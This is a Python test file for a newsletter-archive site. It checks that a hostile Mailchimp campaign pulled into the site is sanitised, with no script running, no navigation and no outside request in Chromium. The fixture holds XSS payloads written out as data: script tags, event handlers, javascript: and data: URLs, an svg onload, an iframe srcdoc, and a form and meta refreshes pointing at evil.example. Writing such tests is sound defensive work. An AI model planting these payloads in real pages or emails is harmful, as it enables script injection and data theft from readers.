"""A hostile past campaign is pulled, built and opened in Chromium: nothing in it acts.

The campaign carries what a compromised or careless Mailchimp account could
hold: scripts, event handlers, javascript: and data: URLs, an iframe, an svg, a
form, a meta refresh in the preview text, <style> with url(), subscribers'
personal links, a tracking pixel, a remote image, and a subject with a slash
and quotes. After `pull_campaigns` and a real build, the browser must see no
script run, no navigation, no request leave the site and no blocked content,
and no file in output/ may hold a personal link or a merge tag.
"""

import re
import shutil
import time

import pytest
import requests
from pelican.settings import read_settings

from fake_mailchimp import FakeMailchimp
from gates.browser import VIEWPORTS
from local_images import local_session, png
from sitebuild import ROOT, build_site
from synergy.gates.serve import serve_folder
from synergy.mailchimp import connect
from synergy_newsletter import outbox
from synergy_newsletter.pull import pull_campaigns

SUBJECT = 'Winter 2025/26 "update": Tom\'s <Jerry> *|FNAME|*'
PREVIEW = '<meta http-equiv="refresh" content="0;url=https://evil.example/"><script>window.__pwned=1</script>'
PWN = "window.__pwned=1"
ID = "e=0a1b2c3d4e"
HOSTILE = f"""<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/head">
<script>{PWN}</script>
<style>body {{ background: url(https://tracker.example/bg.png) }}</style>
</head><body>
<span class="mcnPreviewText" style="display:none">Hidden preheader for *|EMAIL|*</span>
<h1>Winter notes</h1>
<p onclick="{PWN}" onmouseover="{PWN}">Hello *|FNAME|*, here is the winter news.</p>
<p><a href="javascript:{PWN}">Run me</a> <a href="data:text/html,<script>{PWN}</script>">Data</a></p>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="inline svg">
<svg onload="{PWN}"><script>{PWN}</script><text>svg words</text></svg>
<iframe src="https://evil.example/frame" srcdoc="<script>{PWN}</script>"></iframe>
<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/body">
<div style="background-image:url(https://tracker.example/div.png)">Styled words</div>
<p><a href="https://synergyintegrativehealth.us21.list-manage.com/track/click?u=abc&id=def&{ID}">Read the blog</a></p>
<p><a href="https://click.example.net/ls/click?url=https%3A%2F%2Fwww.nimh.nih.gov%2Fhealth&{ID}">NIMH</a></p>
<p><img src="{{images}}/photo.png" alt="A calm lake" width="40" height="30" onerror="{PWN}"></p>
<img src="{{images}}/open.png" alt="">
<img src="{{images}}/beacon.png" width="1" height="1" alt="">
<img src="https://synergyintegrativehealth.us21.list-manage.com/track/open.php?u=abc&id=def&{ID}" alt="">
<p>This email was sent to <a href="mailto:jane.reader@example.com">jane.reader@example.com</a>.</p>
<p><a href="https://synergyintegrativehealth.us21.list-manage.com/unsubscribe?u=abc&id=def&{ID}&c=1">Unsubscribe</a>
<a href="https://synergyintegrativehealth.us21.list-manage.com/profile?u=abc&id=def&{ID}">Update your profile</a>
<a href="https://us21.forward-to-friend.com/forward?u=abc&id=def&{ID}">Forward</a>
<a href="*|UNSUB|*">Leave</a> <a href="*%7CARCHIVE%7C*">Archive</a></p>
<p>*|LIST:ADDRESSLINE|* *|REWARDS|*</p>
</body></html>"""
PERSONAL = [ID, "0a1b2c3d4e", "jane.reader", "mailto:jane", "/unsubscribe", "/profile?", "forward-to-friend",
            "/track/click", "/track/open", "*|", "|*", "%7C", "mcnPreviewText", "Hidden preheader"]

# The pictures' colour: the site's paper, as a newsletter's photos often are.
PAPER = (241, 236, 227)


@pytest.fixture(scope="module")
def pulled(tmp_path_factory):
    """(build of the site with the hostile campaign pulled in, the issue's slug, the pull's lines)."""
    root = tmp_path_factory.mktemp("hostile")
    host = root / "image-host"
    host.mkdir()
    (host / "photo.png").write_bytes(png(40, 30, PAPER))
    (host / "open.png").write_bytes(png(1, 1, PAPER))
    (host / "beacon.png").write_bytes(png(1, 1, PAPER))
    images, image_server = serve_folder(host)
    content = root / "source"
    shutil.copytree(ROOT / "content", content)
    pool = local_session()
    try:
        with FakeMailchimp() as fake, pytest.MonkeyPatch.context() as env:
            env.setenv("MAILCHIMP_API_KEY", fake.api_key)
            env.setenv("MAILCHIMP_API_URL", fake.url)
            fake.store.add_member(fake.audience_id, "reader@example.org")
            settings = read_settings(str(ROOT / "pelicanconf.py"), override={
                "PATH": str(content), "MAILCHIMP_AUDIENCE_ID": fake.audience_id})
            with connect(timeout=(2, 5), retries=1) as mc:
                campaign = mc.post("/campaigns", {
                    "type": "regular", "recipients": {"list_id": fake.audience_id},
                    "settings": {"subject_line": SUBJECT, "title": 'Winter "special" / 2025',
                                 "preview_text": PREVIEW, "from_name": "Synergy",
                                 "reply_to": "hello@example.org"}}, creates=True)
                mc.put(f"/campaigns/{campaign['id']}/content", {"html": HOSTILE.replace("{images}", images)})
                mc.post(f"/campaigns/{campaign['id']}/actions/send")
                lines = list(pull_campaigns(settings, mc, outbox.ledger_for(settings), pool))
            assert not fake.violations
    finally:
        image_server.shutdown()
        pool.close()
    (issue,) = [p for p in (content / "newsletter").glob("*.html") if "winter" in p.name]
    # A lenient build that still prints what a strict one would fail on (as the live preview does),
    # with its search index: no file of the output may hold the issue's personal parts.
    build = build_site(root / "site", content=content, strict=False, overrides={"STRICT_REPORT": True},
                       search=True)
    assert build.ok, build.stderr
    return build, issue.stem, lines


def test_the_pull_names_the_file_with_an_ascii_slug_and_notes_nothing_missing(pulled):
    build, slug, lines = pulled
    assert re.fullmatch(r"\d{4}-\d{2}-winter-2025-26-update-tom-s-jerry", slug), slug
    assert not any(line.failed for line in lines)
    assert lines[-1].endswith(f"({SUBJECT.replace(' *|FNAME|*', '')}) -- review it, then commit it")


def test_the_issue_is_in_the_archive_with_its_words_and_its_image_copied_onto_the_site(pulled):
    build, slug, _ = pulled
    page = build.soup(f"newsletter/{slug}/index.html")
    body = page.find("main")
    assert "here is the winter news" in body.get_text() and "Styled words" in body.get_text()
    assert "Read the blog" in body.get_text()
    assert [a["href"] for a in body.find_all("a", href=re.compile("nimh"))] == ["https://www.nimh.nih.gov/health"]
    images = [img["src"] for img in body.find_all("img")]
    assert images == [f"/images/newsletter/{slug}/1.png"]
    assert build.exists(f"images/newsletter/{slug}/1.png")
    assert page.find("h1").get_text() == "Winter 2025/26 \"update\": Tom's <Jerry>"


def test_nothing_that_runs_or_loads_is_left_in_the_issue(pulled):
    build, slug, _ = pulled
    for page in (f"newsletter/{slug}/index.html", "newsletter/index.html"):
        soup = build.soup(page)
        main = soup.find("main")
        for own in main.select(".signup-card"):  # the site's own signup form and its script
            own.decompose()
        assert not main.find_all(["script", "iframe", "svg", "form", "input", "object", "embed", "style"])
        assert soup.find("meta", attrs={"http-equiv": "refresh"}) is None
        assert not [t for t in main.find_all(True) if any(a.startswith("on") or a == "style" for a in t.attrs)]
        assert "javascript:" not in str(main) and "data:" not in str(main) and "tracker.example" not in str(main)


def test_no_file_in_output_holds_a_personal_link_an_address_or_a_merge_tag(pulled):
    build, slug, _ = pulled
    assert not build.exists(f"email-preview/{slug}")  # a pulled issue went out already: no email
    checked = 0
    for path in build.output.rglob("*"):
        # The site's own emails carry Mailchimp's merge tags for it to fill in, by design.
        if path.suffix not in (".html", ".xml", ".txt", ".json", ".js", ".css") or "email-preview" in path.parts:
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        checked += 1
        for needle in PERSONAL:
            assert needle not in text, f"{path.relative_to(build.output)} holds {needle!r}"
    assert checked > 30


def test_the_build_reports_the_markup_in_the_subject_and_preview_naming_the_file(pulled):
    build, slug, _ = pulled
    lines = build.stderr.splitlines()
    # A lenient build marks what only a strict one fails on as a warning.
    assert [line.split(" '")[0] for line in lines if "holds HTML" in line] == [
        f"content/newsletter/{slug}.html: warning: subject:", f"content/newsletter/{slug}.html: warning: summary:"]


@pytest.fixture(scope="module")
def served(pulled):
    build, _, _ = pulled
    from synergy.gates.serve import serve_folder as serve

    url, server = serve(build.output)
    yield url
    server.shutdown()


@pytest.mark.browser
@pytest.mark.parametrize("where", ["archive", "issue"])
def test_in_chromium_no_script_runs_no_navigation_happens_and_no_request_leaves_the_site(
        browser, pulled, served, where):
    _, slug, _ = pulled
    url = f"{served}/newsletter/" + (f"{slug}/" if where == "issue" else "")
    own = requests.utils.urlparse(served).netloc
    context = browser.new_context(viewport=VIEWPORTS[1280])
    requested, foreign, dialogs, navigations, blocked = [], [], [], [], []
    try:
        context.route(lambda u: requests.utils.urlparse(u).netloc != own, lambda route: route.abort())
        page = context.new_page()
        page.on("request", lambda r: requested.append(r.url))
        page.on("request", lambda r: foreign.append(r.url)
                if requests.utils.urlparse(r.url).netloc not in (own, "") else None)
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("framenavigated", lambda f: navigations.append(f.url) if f == page.main_frame else None)
        page.on("console", lambda m: blocked.append(m.text)
                if m.type == "error" and "Content Security Policy" in m.text else None)
        page.goto(url, wait_until="load")
        page.mouse.move(200, 300)
        page.evaluate("window.scrollTo(0, document.documentElement.scrollHeight)")
        time.sleep(1.5)  # a meta refresh with content=0 would have fired by now
        page.wait_for_load_state("networkidle")
        assert page.url == url and navigations == [url]
        assert page.evaluate("typeof window.__pwned") == "undefined"
        assert dialogs == [] and foreign == [] and blocked == []
        if where == "issue":
            widths = page.evaluate("[...document.querySelectorAll('main img')].map(i => i.naturalWidth)")
            assert widths == [40]
    finally:
        context.close()
    assert any(u.startswith(served) for u in requested)
